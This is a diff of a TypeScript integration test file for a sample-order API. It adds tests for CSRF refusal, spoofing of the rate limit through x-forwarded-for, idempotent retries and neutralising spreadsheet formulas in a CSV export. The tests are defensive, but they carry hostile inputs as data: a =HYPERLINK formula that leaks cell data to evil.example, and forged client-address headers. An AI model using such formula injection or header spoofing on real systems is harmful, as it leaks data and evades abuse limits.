@@ -1,21 +1,21 @@
 import http from 'node:http'
 import { beforeAll, describe, expect, it } from 'vitest'
-import { baseUrl, editorToken } from '../helpers/http'
+import { baseUrl, editorToken, fetchFrom, freshLoopbackAddress } from '../helpers/http'
 
 const RUN = `${Date.now()}`
 const REFERENCE = /^SO-[A-Z2-9]{4}-[A-Z2-9]{4}$/
 const LIMIT = Number(process.env.SAMPLE_ORDER_RATE_LIMIT ?? 10)
 
 let token: string
-let addresses = 0
+
+type Client = ReturnType<typeof fetchFrom>
 
 /**
- * The server trusts x-forwarded-for (no proxy in front of it here), so each request gets its own
- * address and the per-address limit never couples one test to another. The server keeps its counts
- * for a window, so the addresses (IPv6 documentation range) carry a random part new each run.
+ * The server reads the caller's address from the socket, so each request connects from a loopback
+ * address of its own and the per-address limit never couples one test to another. The server keeps
+ * its counts for a window; the addresses differ from run to run.
  */
-const NETWORK = Array.from(crypto.getRandomValues(new Uint16Array(3)), (part) => part.toString(16)).join(':')
-const freshAddress = () => `2001:db8:${NETWORK}::${(++addresses).toString(16)}`
+const freshClient = (): Client => fetchFrom(freshLoopbackAddress())
 
 /** Unique per run and per test too: the server also limits orders per email address. */
 const emailFor = (marker: string) => `ana.${RUN}.${marker}@bistro.example`
@@ -41,10 +41,13 @@ const order = (marker: string, overrides: Record<string, unknown> = {}) => ({
   ...overrides,
 })
 
-async function post(body: unknown, address = freshAddress()): Promise<{ status: number; body: Record<string, unknown>; headers: Headers }> {
-  const response = await fetch(`${baseUrl()}/api/sample-bag/orders`, {
+async function post(
+  body: unknown,
+  { client = freshClient(), headers = {} }: { client?: Client; headers?: Record<string, string> } = {},
+): Promise<{ status: number; body: Record<string, unknown>; headers: Headers }> {
+  const response = await client('/api/sample-bag/orders', {
     method: 'POST',
-    headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
+    headers: { 'content-type': 'application/json', ...headers },
     body: typeof body === 'string' ? body : JSON.stringify(body),
   })
   return { status: response.status, body: (await response.json()) as Record<string, unknown>, headers: response.headers }
@@ -56,12 +59,12 @@ interface StoredOrder {
   locale: string
   items: { sku: string }[]
   contact: { email: string; phone: string; lastName: string }
-  shippingAddress: { country: string }
+  shippingAddress: { street: string; country: string }
 }
 
 /** The stored orders whose last name carries the marker, read as the demo editor through the CMS REST API. */
 async function storedOrders(marker: string): Promise<StoredOrder[]> {
-  const query = new URLSearchParams({ 'where[contact.lastName][equals]': `Sample test ${RUN} ${marker}`, depth: '0', limit: '10' })
+  const query = new URLSearchParams({ 'where[contact.lastName][equals]': `Sample test ${RUN} ${marker}`, depth: '0', limit: '100' })
   const response = await fetch(`${baseUrl()}/api/sample-orders?${query}`, { headers: { authorization: `JWT ${token}` } })
   expect(response.status).toBe(200)
   return ((await response.json()) as { docs: StoredOrder[] }).docs
@@ -185,10 +188,55 @@ describe('POST /api/sample-bag/orders', () => {
     }
   })
 
-  it.skipIf(LIMIT <= 0)('limits orders per client address with 429 and Retry-After', async () => {
-    const address = freshAddress()
-    for (let i = 0; i < LIMIT; i++) expect((await post({}, address)).status).toBe(422)
-    const limited = await post(order('limited'), address)
+  it('refuses an order not sent as JSON with 415 and stores nothing', async () => {
+    // A form or text/plain post is a simple request: any other site could make its visitors' browsers send it.
+    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded']) {
+      const { status, body } = await post(order('plain'), { headers: { 'content-type': type } })
+      expect(status, type).toBe(415)
+      expect(typeof body.message).toBe('string')
+    }
+    expect(await storedOrders('plain')).toHaveLength(0)
+  })
+
+  it('refuses an order from a page of another site with 403 and stores nothing', async () => {
+    const crossSite: Record<string, string>[] = [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }, { origin: 'null' }]
+    for (const headers of crossSite) {
+      const { status, body } = await post(order('cross-site'), { headers })
+      expect(status, JSON.stringify(headers)).toBe(403)
+      expect(typeof body.message).toBe('string')
+    }
+    expect(await storedOrders('cross-site')).toHaveLength(0)
+  })
+
+  it('takes an order a browser marks as sent from the site itself', async () => {
+    const headers = { 'sec-fetch-site': 'same-origin', origin: new URL(baseUrl()).origin }
+    expect((await post(order('same-origin'), { headers })).status).toBe(201)
+  })
+
+  it('refuses a changed order under a retry key already used with 422, and keeps the first', async () => {
+    const first = order('changed')
+    const placed = await post(first)
+    expect(placed.status).toBe(201)
+    const changed = await post({ ...first, street: '99 Other St', items: ['TF-10001'] })
+    expect(changed.status).toBe(422)
+    expect(changed.body).toEqual({
+      message: 'This request was already used for an order with different details, so nothing was changed. Please place your changed order as a new order.',
+    })
+    const spanish = await post({ ...first, locale: 'es' })
+    expect(spanish.status).toBe(422)
+    expect(spanish.body.message).toMatch(/^Esta solicitud ya se usó/)
+    const retry = await post(first)
+    expect(retry.status).toBe(200)
+    expect(retry.body.reference).toBe(placed.body.reference)
+    const docs = await storedOrders('changed')
+    expect(docs).toHaveLength(1)
+    expect(docs[0]).toMatchObject({ reference: placed.body.reference, locale: 'en', items: [{ sku: 'TF-10001' }, { sku: 'TF-10002' }], shippingAddress: { street: '12 Main St' } })
+  })
+
+  it.skipIf(LIMIT <= 0)('limits requests per client address with 429 and Retry-After', async () => {
+    const client = freshClient()
+    for (let i = 0; i < LIMIT; i++) expect((await post({}, { client })).status).toBe(422)
+    const limited = await post(order('limited'), { client })
     expect(limited.status).toBe(429)
     expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
     expect(typeof limited.body.message).toBe('string')
@@ -196,19 +244,58 @@ describe('POST /api/sample-bag/orders', () => {
     expect((await post(order('other-address'))).status).toBe(201)
   })
 
-  it.skipIf(LIMIT <= 0)('limits orders per email address, from any client address and in any letter case', async () => {
-    // Refused for their products (TF-10013 offers no samples), these still count: every valid new order does.
+  it.skipIf(LIMIT <= 0)('does not let a spoofed x-forwarded-for reset the per-address limit', async () => {
+    const client = freshClient()
     for (let i = 0; i < LIMIT; i++) {
+      expect((await post({}, { client, headers: { 'x-forwarded-for': `198.51.100.${i + 1}` } })).status).toBe(422)
+    }
+    const spoofed = await post(order('spoofed'), {
+      client,
+      headers: { 'x-forwarded-for': '203.0.113.9', 'x-real-ip': '203.0.113.9', 'x-client-address': '203.0.113.9' },
+    })
+    expect(spoofed.status).toBe(429)
+    expect(await storedOrders('spoofed')).toHaveLength(0)
+  })
+
+  it.skipIf(LIMIT <= 0)('limits stored orders per email address, from any client address and in any letter case', async () => {
+    // Refused for their products (TF-10013 offers no samples), these spend nothing.
+    for (let i = 0; i < 3; i++) {
       const { status, body } = await post(order('per-email', { items: ['TF-10013'] }))
       expect(status).toBe(422)
       expect(body.errors).toHaveProperty('items')
     }
+    for (let i = 0; i < LIMIT; i++) expect((await post(order('per-email'))).status).toBe(201)
     const limited = await post(order('per-email', { email: ` ${emailFor('per-email').toUpperCase()} ` }))
     expect(limited.status).toBe(429)
     expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
     expect(limited.body.message).toMatch(/email address/)
-    expect(await storedOrders('per-email')).toHaveLength(0)
+    expect(await storedOrders('per-email')).toHaveLength(LIMIT)
     expect((await post(order('other-email'))).status).toBe(201)
+  })
+})
+
+describe('GET /api/sample-orders/export.csv', () => {
+  const exportCsv = (headers: Record<string, string> = {}) => fetch(`${baseUrl()}/api/sample-orders/export.csv`, { headers })
+
+  it('refuses anonymous callers with 403', async () => {
+    const response = await exportCsv()
+    expect(response.status).toBe(403)
+    expect(await response.text()).not.toContain('bistro.example')
+  })
+
+  it('sends editors the orders as CSV, a formula a visitor typed neutralised', async () => {
+    const formula = `=HYPERLINK("https://evil.example/?leak="&A1,"Bistro ${RUN}")`
+    const placed = await post(order('formula', { businessName: formula }))
+    expect(placed.status).toBe(201)
+    const response = await exportCsv({ authorization: `JWT ${token}` })
+    expect(response.status).toBe(200)
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="sample-orders.csv"')
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+    const row = (await response.text()).split('\r\n').find((line) => line.startsWith(`${placed.body.reference},`))
+    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Bistro ${RUN}"")"`)
+    expect(row).toContain(emailFor('formula'))
+    expect(row).not.toMatch(/(^|,)"?=/)
   })
 })
 
@@ -217,7 +304,8 @@ function postStreamed(size: number): Promise<{ status: number; body: string }> {
   return new Promise((resolve, reject) => {
     const request = http.request(new URL('/api/sample-bag/orders', baseUrl()), {
       method: 'POST',
-      headers: { 'content-type': 'application/json', 'x-forwarded-for': freshAddress() },
+      headers: { 'content-type': 'application/json' },
+      localAddress: freshLoopbackAddress(),
     })
     let answered = false
     request.on('response', (response) => {
